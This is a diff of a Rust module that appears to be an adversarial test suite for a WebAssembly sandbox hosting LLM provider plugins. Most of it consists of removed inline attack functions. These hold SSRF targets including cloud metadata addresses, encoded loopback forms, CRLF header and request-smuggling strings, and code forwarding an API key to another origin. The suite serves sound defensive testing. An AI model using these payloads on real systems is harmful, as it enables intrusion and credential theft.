@@ -1,449 +1,222 @@
 //! The attacks, each by itself.
 
-use std::arch::wasm32;
-use std::hint::black_box;
-use std::sync::atomic::{AtomicU64, Ordering};
-
-use wasip2::clocks::monotonic_clock::{now, subscribe_duration};
-use wasip2::http::outgoing_handler::handle;
-use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
-use wasip2::io::poll::poll;
+mod computing;
+mod exchanges;
+mod giants;
+mod handles;
+mod headers;
+mod key;
+pub(crate) mod lies;
+mod memory;
+mod origins;
+mod returns;
 
 use crate::Orders;
+use crate::bindings::llm::provider::types::{Error, Event};
+use crate::border::{self, Returned};
 use crate::http::Ask;
 
-/// An attack: what became of its steps, if it comes back at all.
-type Attack = fn(&Orders) -> Vec<String>;
+/// An attack.
+pub(crate) enum Attack {
+    /// It does something; what became of its steps, if it comes back at all.
+    Does(fn(&Orders) -> Vec<String>),
+    /// It gives this answer, call by call.
+    Says(fn(&Orders, u32) -> Result<Vec<Event>, Error>),
+    /// It returns memory that is no answer.
+    Returns(Returned),
+}
+
+use Attack::{Does, Returns, Says};
 
 /// All of them by name.
 pub(crate) const ALL: &[(&str, Attack)] = &[
-    ("endless-loop", endless_loop),
-    ("endless-host-calls", endless_host_calls),
-    ("endless-wait", endless_wait),
-    ("recursion", recursion),
-    ("recursion-in-memory", recursion_in_memory),
-    ("trap", trap),
-    ("memory", memory),
-    ("pollables", pollables),
-    ("fields", fields),
-    ("header-bytes", header_bytes),
-    (MORE_EVENTS_THAN_ASKED, more_events_than_asked),
-    ("unfinished-requests", unfinished_requests),
-    ("body-that-nobody-reads", body_that_nobody_reads),
-    ("giant-path", giant_path),
-    ("giant-body", giant_body),
-    ("other-origins", other_origins),
-    ("addresses-by-other-names", addresses_by_other_names),
-    ("odd-authorities", odd_authorities),
-    ("odd-paths", odd_paths),
-    ("odd-methods", odd_methods),
-    ("odd-headers", odd_headers),
-    ("framing-headers", framing_headers),
-    ("key-outside-header-values", key_outside_header_values),
-    ("key-to-another-origin", key_to_another_origin),
+    ("endless-loop", Does(computing::endless_loop)),
+    ("endless-host-calls", Does(computing::endless_host_calls)),
+    ("costly-host-calls", Does(computing::costly_host_calls)),
+    ("bulk-instructions", Does(computing::bulk_instructions)),
+    ("endless-yields", Does(computing::endless_yields)),
+    ("endless-wait", Does(computing::endless_wait)),
+    ("longest-wait", Does(computing::longest_wait)),
+    ("recursion", Does(computing::recursion)),
+    ("recursion-in-memory", Does(computing::recursion_in_memory)),
+    ("trap", Does(computing::trap)),
+    ("poll-of-nothing", Does(computing::poll_of_nothing)),
+    ("poll-of-many", Does(computing::poll_of_many)),
+    ("poll-of-millions", Does(computing::poll_of_millions)),
+    ("clock-resolution", Does(computing::clock_resolution)),
+    ("memory", Does(memory::growth)),
+    ("memory-by-pages", Does(memory::growth_by_pages)),
+    ("memory-at-once", Does(memory::growth_at_once)),
+    ("memory-touched", Does(memory::touched)),
+    ("memory-of-others", Does(memory::marks_of_others)),
+    ("pollables", Does(handles::pollables)),
+    ("fields", Does(handles::fields)),
+    ("copies-of-fields", Does(handles::copies_of_fields)),
+    ("requests", Does(handles::requests)),
+    ("request-options", Does(handles::request_options)),
+    ("made-and-dropped", Does(handles::made_and_dropped)),
+    ("handle-used-after-drop", Does(handles::used_after_drop)),
+    ("handle-dropped-twice", Does(handles::dropped_twice)),
+    ("handle-of-another-kind", Does(handles::of_another_kind)),
+    ("handle-made-up", Does(handles::made_up)),
+    (
+        "children-after-parents",
+        Does(handles::children_after_parents),
+    ),
+    ("had-twice", Does(handles::had_twice)),
+    (
+        "pollable-after-its-subject",
+        Does(handles::pollable_after_its_subject),
+    ),
+    ("giant-path", Does(giants::path)),
+    ("giant-authority", Does(giants::authority)),
+    ("giant-method", Does(giants::method)),
+    ("giant-scheme", Does(giants::scheme)),
+    ("giant-header-name", Does(giants::header_name)),
+    ("giant-header-value", Does(giants::header_value)),
+    ("smaller-giants", Does(giants::smaller_giants)),
+    ("giant-body", Does(giants::body)),
+    ("header-bytes", Does(giants::header_bytes)),
+    ("header-count", Does(giants::header_count)),
+    ("header-repeated", Does(giants::header_repeated)),
+    ("aliased-headers", Does(giants::aliased_headers)),
+    ("aliased-values", Does(giants::aliased_values)),
+    ("list-out-of-memory", Does(giants::list_out_of_memory)),
+    ("list-without-end", Does(giants::list_without_end)),
+    ("result-out-of-memory", Does(giants::result_out_of_memory)),
+    (
+        "result-at-an-odd-address",
+        Does(giants::result_at_an_odd_address),
+    ),
+    ("text-out-of-memory", Does(giants::text_out_of_memory)),
+    ("text-that-is-none", Does(giants::text_that_is_none)),
+    (
+        "argument-of-no-case",
+        Does(giants::discriminant_of_an_argument),
+    ),
+    ("unfinished-requests", Does(exchanges::unfinished_requests)),
+    (
+        "body-that-nobody-reads",
+        Does(exchanges::body_that_nobody_reads),
+    ),
+    ("endless-request", Does(exchanges::endless_request)),
+    ("dropped-request", Does(exchanges::dropped_request)),
+    ("forgotten-requests", Does(exchanges::forgotten_requests)),
+    ("kept-answers", Does(exchanges::kept_answers)),
+    ("endless-answer", Does(exchanges::endless_answer)),
+    ("left-answers", Does(exchanges::left_answers)),
+    ("no-time", Does(exchanges::no_time)),
+    ("all-the-time", Does(exchanges::all_the_time)),
+    (
+        "silence-again-and-again",
+        Does(exchanges::silence_again_and_again),
+    ),
+    ("other-origins", Does(origins::other_origins)),
+    ("metadata-services", Does(origins::metadata)),
+    (
+        "addresses-by-other-names",
+        Does(origins::addresses_by_other_names),
+    ),
+    ("odd-authorities", Does(origins::odd_authorities)),
+    ("odd-paths", Does(origins::odd_paths)),
+    ("dots-in-paths", Does(origins::dots)),
+    ("odd-methods", Does(origins::odd_methods)),
+    ("redirects", Does(origins::redirects)),
+    ("line-breaks-in-headers", Does(headers::line_breaks)),
+    ("headers-of-the-host", Does(headers::of_the_host)),
+    ("headers-as-a-list", Does(headers::as_a_list)),
+    ("framing-headers", Does(headers::framing)),
+    ("headers-of-proxies", Does(headers::of_proxies)),
+    ("headers-twice", Does(headers::twice)),
+    ("trailers", Does(headers::trailers)),
+    (
+        "key-outside-header-values",
+        Does(key::outside_header_values),
+    ),
+    ("key-to-another-origin", Does(key::to_another_origin)),
+    ("key-in-disguise", Does(key::in_disguise)),
+    ("key-in-other-parts", Does(key::in_other_parts)),
+    ("key-over-another-scheme", Does(key::over_another_scheme)),
+    ("key-with-a-redirect", Does(key::with_a_redirect)),
+    ("endless-text", Says(lies::endless_text)),
+    ("endless-thinking", Says(lies::endless_thinking)),
+    ("endless-notes", Says(lies::endless_notes)),
+    ("endless-extensions", Says(lies::endless_extensions)),
+    ("endless-arguments", Says(lies::endless_arguments)),
+    ("trickle", Says(lies::trickle)),
+    ("computing-trickle", Says(lies::computing_trickle)),
+    ("giant-event", Says(lies::giant_event)),
+    ("more-events-than-asked", Says(lies::more_events_than_asked)),
+    ("million-events", Says(lies::million_events)),
+    ("million-calls", Says(lies::million_calls)),
+    ("trap-in-the-middle", Says(lies::trap_in_the_middle)),
+    ("text-before-start", Says(lies::text_before_start)),
+    ("second-start", Says(lies::second_start)),
+    ("text-after-finish", Says(lies::text_after_finish)),
+    ("second-finish", Says(lies::second_finish)),
+    ("no-finish", Says(lies::no_finish)),
+    ("empty-texts", Says(lies::empty_texts)),
+    ("end-of-no-call", Says(lies::end_of_no_call)),
+    ("lying-usage", Says(lies::usage)),
+    ("giant-error", Says(lies::giant_error)),
+    ("error-of-numbers", Says(lies::error_of_numbers)),
+    ("escape-sequences", Says(lies::escapes)),
+    ("uncalled", Does(uncalled)),
+    ("start-request", Does(while_starting)),
+    ("manifest-loop", Does(nothing)),
+    ("lying-models", Does(nothing)),
+    ("lying-count", Does(nothing)),
+    ("many-models", Does(nothing)),
+    ("many-notes", Does(nothing)),
+    (
+        "returned-address-outside",
+        Returns(returns::address_outside),
+    ),
+    ("returned-odd-address", Returns(returns::odd_address)),
+    ("returned-list-outside", Returns(returns::list_outside)),
+    (
+        "returned-list-without-end",
+        Returns(returns::list_without_end),
+    ),
+    (
+        "returned-list-at-an-odd-address",
+        Returns(returns::list_at_an_odd_address),
+    ),
+    (
+        "returned-no-result",
+        Returns(returns::neither_list_nor_error),
+    ),
+    ("returned-no-event", Returns(returns::no_such_event)),
+    ("returned-no-reason", Returns(returns::no_such_reason)),
+    ("returned-no-option", Returns(returns::no_such_option)),
+    ("returned-text-outside", Returns(returns::text_outside)),
+    (
+        "returned-text-without-end",
+        Returns(returns::text_without_end),
+    ),
+    (
+        "returned-text-that-is-none",
+        Returns(returns::text_that_is_none),
+    ),
+    ("returned-aliased-texts", Returns(returns::aliased_texts)),
+    ("returned-made-up-handle", Returns(returns::made_up_handle)),
+    ("returned-no-handle", Returns(returns::no_handle)),
+    (
+        "returned-handle-of-another-kind",
+        Returns(returns::handle_of_another_kind),
+    ),
 ];
 
-/// The stream does not look at how many events it is asked for.
-pub(crate) const MORE_EVENTS_THAN_ASKED: &str = "more-events-than-asked";
-
-fn more_events_than_asked(_: &Orders) -> Vec<String> {
-    vec!["one more".into(); 1_000]
+/// Made where the host has nothing to call.
+fn uncalled(orders: &Orders) -> Vec<String> {
+    vec![Ask::path(&orders.granted, "/x-smuggled").send()]
 }
 
-fn endless_loop(_: &Orders) -> Vec<String> {
-    let mut turns = 0_u64;
-    loop {
-        turns = black_box(turns.wrapping_add(1));
-    }
+fn while_starting(_: &Orders) -> Vec<String> {
+    vec![border::while_starting()]
 }
 
-/// Each call lets the host in for a moment, which must not start the clock anew.
-fn endless_host_calls(_: &Orders) -> Vec<String> {
-    loop {
-        black_box(now());
-    }
-}
-
-/// Waiting costs no processor time; a day of it holds a chat's place.
-fn endless_wait(_: &Orders) -> Vec<String> {
-    loop {
-        subscribe_duration(86_400_000_000_000).block();
-    }
-}
-
-/// A stack in the guest's own memory, which it leaves at the wrong end.
-#[allow(unconditional_recursion, reason = "that is the attack")]
-fn recursion_in_memory(_: &Orders) -> Vec<String> {
-    fn deeper(depth: u64) -> u64 {
-        let here = black_box([depth; 64]);
-        deeper(here[0] + 1).wrapping_add(here[63])
-    }
-    vec![deeper(0).to_string()]
-}
-
-/// The stack that the host gives its calls.
-fn recursion(_: &Orders) -> Vec<String> {
-    static ENOUGH: AtomicU64 = AtomicU64::new(0);
-    fn deeper(depth: u64) -> u64 {
-        if ENOUGH.load(Ordering::Relaxed) == 1 {
-            return depth;
-        }
-        deeper(depth + 1).rotate_left(3) ^ depth
-    }
-    vec![deeper(0).to_string()]
-}
-
-fn trap(_: &Orders) -> Vec<String> {
-    wasm32::unreachable()
-}
-
-/// Grows without touching, as a program does that wants to be noticed late.
-fn memory(orders: &Orders) -> Vec<String> {
-    while wasm32::memory_grow(0, 256) != usize::MAX {}
-    trap(orders)
-}
-
-fn pollables(_: &Orders) -> Vec<String> {
-    let mut held = Vec::new();
-    loop {
-        held.push(subscribe_duration(1));
-    }
-}
-
-fn fields(_: &Orders) -> Vec<String> {
-    let mut held = Vec::new();
-    loop {
-        held.push(Fields::new());
-    }
-}
-
-/// Fields are kept in the host's memory.
-fn header_bytes(_: &Orders) -> Vec<String> {
-    let fields = Fields::new();
-    let value = vec![b'a'; 16 << 10];
-    for count in 0..1_000 {
-        if let Err(error) = fields.append(&format!("x-{count}"), &value) {
-            return vec![format!("refused after {count}: {error:?}")];
-        }
-    }
-    vec!["answered: 16 MB of header fields".into()]
-}
-
-fn unfinished_requests(orders: &Orders) -> Vec<String> {
-    let mut held = Vec::new();
-    let mut denied = 0;
-    for _ in 0..64 {
-        let request = OutgoingRequest::new(Fields::new());
-        let _ = request.set_scheme(Some(&Scheme::Http));
-        let _ = request.set_authority(Some(&orders.granted));
-        let _ = request.set_path_with_query(Some("/v1/models"));
-        let body = request.body();
-        match handle(request, None) {
-            Ok(answer) => held.push((answer, body)),
-            Err(_) => denied += 1,
-        }
-    }
-    // The bodies are open still: no request is whole.
-    let ready: Vec<_> = held.iter().map(|(answer, _)| answer.subscribe()).collect();
-    let enough = now() + 200_000_000;
-    while now() < enough {
-        let timer = subscribe_duration(10_000_000);
-        let mut all: Vec<_> = ready.iter().collect();
-        all.push(&timer);
-        poll(&all);
-    }
-    drop(ready);
-    let (mut waiting, mut answered) = (0, 0);
-    for (answer, _) in &held {
-        match answer.get() {
-            None => waiting += 1,
-            Some(Ok(Err(_))) => denied += 1,
-            Some(Ok(Ok(_)) | Err(())) => answered += 1,
-        }
-    }
-    vec![format!(
-        "{waiting} waiting, {denied} denied, {answered} answered"
-    )]
-}
-
-/// Until a request is sent nobody takes the bytes of its body.
-fn body_that_nobody_reads(_: &Orders) -> Vec<String> {
-    let request = OutgoingRequest::new(Fields::new());
-    if let Ok(body) = request.body()
-        && let Ok(stream) = body.write()
-    {
-        while stream.blocking_write_and_flush(&[b' '; 4096]).is_ok() {}
-    }
-    vec!["failed".into()]
-}
-
-fn giant_path(orders: &Orders) -> Vec<String> {
-    let path = format!("/{}", "a".repeat(64 << 20));
-    vec![
-        Ask {
-            path: Some(&path),
-            ..Ask::of(&orders.granted)
-        }
-        .send(),
-    ]
-}
-
-fn giant_body(orders: &Orders) -> Vec<String> {
-    let body = vec![b' '; 2 << 20];
-    vec![
-        Ask {
-            body: &body,
-            ..Ask::of(&orders.granted)
-        }
-        .send(),
-    ]
-}
-
-fn other_origins(orders: &Orders) -> Vec<String> {
-    let host = host_of(&orders.granted);
-    let all = [
-        orders.other.clone(),
-        host.to_owned(),
-        format!("{host}:1"),
-        "localhost:1".to_owned(),
-        "example.com".to_owned(),
-        "169.254.169.254".to_owned(),
-        "metadata.google.internal".to_owned(),
-    ];
-    let mut steps: Vec<_> = all
-        .iter()
-        .map(|authority| Ask::of(authority).send())
-        .collect();
-    for scheme in [
-        Scheme::Https,
-        Scheme::Other("ftp".into()),
-        Scheme::Other("file".into()),
-    ] {
-        let scheme = Some(scheme);
-        steps.push(
-            Ask {
-                scheme,
-                ..Ask::of(&orders.granted)
-            }
-            .send(),
-        );
-    }
-    steps.push(
-        Ask {
-            scheme: None,
-            authority: None,
-            ..Ask::of("")
-        }
-        .send(),
-    );
-    steps
-}
-
-/// The address of the other server, in every form that some parser takes for it.
-fn addresses_by_other_names(orders: &Orders) -> Vec<String> {
-    let (_, port) = orders.other.rsplit_once(':').unwrap_or_default();
-    let hosts = [
-        "2130706433",
-        "0x7f000001",
-        "0x7f.1",
-        "017700000001",
-        "0177.0.0.1",
-        "127.1",
-        "127.0.1",
-        "127.0.0.1.",
-        "0",
-        "0.0.0.0",
-        "localhost",
-        "localhost.",
-        "LOCALHOST",
-        "[::1]",
-        "[::]",
-        "[::ffff:127.0.0.1]",
-        "[::127.0.0.1]",
-        "[2002:7f00:1::]",
-        "[64:ff9b::7f00:1]",
-        "[fe80::1%25lo]",
-        "[::1%25lo]",
-        "127.0.0.1.nip.io",
-        "①②⑦.⓪.⓪.①",
-    ];
-    hosts
-        .iter()
-        .map(|host| Ask::of(&format!("{host}:{port}")).send())
-        .collect()
-}
-
-/// Authorities that name two servers, depending on who reads them.
-fn odd_authorities(orders: &Orders) -> Vec<String> {
-    let (granted, other) = (&orders.granted, &orders.other);
-    let (host, port) = other.rsplit_once(':').unwrap_or_default();
-    [
-        format!("{granted}@{other}"),
-        format!("user:password@{other}"),
-        format!("{other}#@{granted}"),
-        format!("{other}\\@{granted}"),
-        format!("{other}/@{granted}"),
-        format!("{other}?@{granted}"),
-        format!("{granted},{other}"),
-        format!("{granted} {other}"),
-        format!("{granted}\r\nhost: {other}"),
-        format!("{granted}\0{other}"),
-        format!("{host}:0{port}"),
-        format!(
-            "{host}:{}",
-            port.parse::<u32>().unwrap_or_default() + 65_536
-        ),
-        format!("{host}:+{port}"),
-        format!("{host}:"),
-        format!(":{port}"),
-    ]
-    .iter()
-    .map(|authority| Ask::of(authority).send())
-    .collect()
-}
-
-/// Targets that would name another server, or end the request line early. Every one that is sent at all goes to the
-/// granted server, as a path.
-fn odd_paths(orders: &Orders) -> Vec<String> {
-    let other = &orders.other;
-    [
-        format!("http://{other}/"),
-        format!("//{other}/"),
-        format!("/\\{other}/"),
-        format!("/ HTTP/1.1\r\nhost: {other}\r\n\r\nGET /"),
-        format!("/\nhost: {other}"),
-        "/\0".to_owned(),
-        "*".to_owned(),
-        other.clone(),
-    ]
-    .iter()
-    .map(|path| {
-        Ask {
-            path: Some(path),
-            ..Ask::of(&orders.granted)
-        }
-        .send()
-    })
-    .collect()
-}
-
-fn odd_methods(orders: &Orders) -> Vec<String> {
-    use wasip2::http::types::Method;
-    [
-        Method::Connect,
-        Method::Trace,
-        Method::Options,
-        Method::Delete,
-        Method::Put,
-        Method::Patch,
-        Method::Head,
-        Method::Other("PURGE".into()),
-        Method::Other("GET / HTTP/1.1\r\nx: y\r\n\r\nGET".into()),
-    ]
-    .into_iter()
-    .map(|method| {
-        Ask {
-            method,
-            ..Ask::of(&orders.granted)
-        }
-        .send()
-    })
-    .collect()
-}
-
-/// Headers that smuggle, or speak for the host.
-fn odd_headers(orders: &Orders) -> Vec<String> {
-    let all: [&[(&str, &[u8])]; 15] = [
-        &[("x-a", b"b\r\nx-smuggled: 1")],
-        &[("x-a", b"b\nx-smuggled: 1")],
-        &[("x-a", b"b\rx-smuggled: 1")],
-        &[("x-a", b"b\0")],
-        &[("x-a\r\nx-smuggled", b"1")],
-        &[("x-a: 1\nx-smuggled", b"1")],
-        &[("x a", b"1")],
-        &[("", b"1")],
-        &[("x-a\0", b"1")],
-        &[("host", b"smuggled.example")],
-        &[("Host", b"smuggled.example")],
-        &[("proxy-authorization", b"smuggled")],
-        &[("proxy-connection", b"smuggled")],
-        &[("connection", b"upgrade")],
-        &[("upgrade", b"smuggled")],
-    ];
-    all.iter()
-        .map(|headers| {
-            Ask {
-                headers,
-                ..Ask::of(&orders.granted)
-            }
-            .send()
-        })
-        .collect()
-}
-
-/// Headers that would say where a message ends. They are taken out: the request goes out without them.
-fn framing_headers(orders: &Orders) -> Vec<String> {
-    let all: [&[(&str, &[u8])]; 5] = [
-        &[("content-length", b"7777")],
-        &[("content-length", b"1"), ("content-length", b"2")],
-        &[("expect", b"100-continue")],
-        &[("te", b"trailers")],
-        &[("accept-encoding", b"gzip")],
-    ];
-    all.iter()
-        .map(|headers| {
-            Ask {
-                headers,
-                body: b"{}",
-                ..Ask::of(&orders.granted)
-            }
-            .send()
-        })
-        .collect()
-}
-
-/// Places in which a server might say the key back. The placeholder is all that gets there.
-fn key_outside_header_values(orders: &Orders) -> Vec<String> {
-    let key = &orders.key;
-    let path = format!("/v1/{key}?key={key}");
-    let name = format!(
-        "x-{}",
-        key.to_lowercase()
-            .replace(|c: char| !c.is_ascii_alphanumeric(), "-")
-    );
-    vec![
-        Ask {
-            path: Some(&path),
-            ..Ask::of(&orders.granted)
-        }
-        .send(),
-        Ask {
-            body: key.as_bytes(),
-            ..Ask::of(&orders.granted)
-        }
-        .send(),
-        Ask {
-            headers: &[(&name, b"1")],
-            ..Ask::of(&orders.granted)
-        }
-        .send(),
-    ]
-}
-
-fn key_to_another_origin(orders: &Orders) -> Vec<String> {
-    let bearer = format!("Bearer {}", orders.key);
-    let headers: &[(&str, &[u8])] = &[("authorization", bearer.as_bytes())];
-    vec![
-        Ask {
-            headers,
-            ..Ask::of(&orders.other)
-        }
-        .send(),
-    ]
-}
-
-fn host_of(authority: &str) -> &str {
-    authority
-        .rsplit_once(':')
-        .map_or(authority, |(host, _)| host)
+/// The attack is in what the function returns ([`lies`]).
+fn nothing(_: &Orders) -> Vec<String> {
+    Vec::new()
 }
